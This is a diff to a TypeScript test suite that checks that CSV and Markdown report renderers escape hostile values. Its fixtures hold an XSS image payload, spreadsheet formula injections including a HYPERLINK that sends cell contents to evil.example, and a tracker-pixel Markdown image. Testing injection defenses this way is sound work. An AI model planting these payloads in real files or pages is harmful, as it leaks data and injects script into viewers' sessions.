@@ -23,6 +23,7 @@ const hostile: ReportDocument = {
             ['@SUM(1)', 0, 0],
             ['<img src=x onerror=alert(1)>', 1, 1],
             ['line\rbreak | pipe', 2, 2],
+            ['![tracker](https://evil.example/pixel)', 4, 4],
           ],
         },
       ],
@@ -36,10 +37,12 @@ describe('report renderers and values they do not control', () => {
     expect(lines.slice(1, 3)).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",3,-2`, "'@SUM(1),0,0"]);
   });
 
-  it('Markdown: a value never becomes markup, and never ends its table row', async () => {
+  it('Markdown: a value never becomes markup (HTML, a link, an image), and never ends its table row', async () => {
     const markdown = (await renderReport(hostile, 'md')).toString();
     expect(markdown).not.toContain('<img');
-    expect(markdown).toContain('| &lt;img src=x onerror=alert(1)&gt; | 1 | 1 |');
+    expect(markdown).toContain('| &lt;img src=x onerror=alert\\(1\\)&gt; | 1 | 1 |');
     expect(markdown).toContain('| line break \\| pipe | 2 | 2 |');
+    // Nor a link or an image a viewer would load.
+    expect(markdown).toContain('| \\!\\[tracker\\]\\(https://evil.example/pixel\\) | 4 | 4 |');
   });
 });
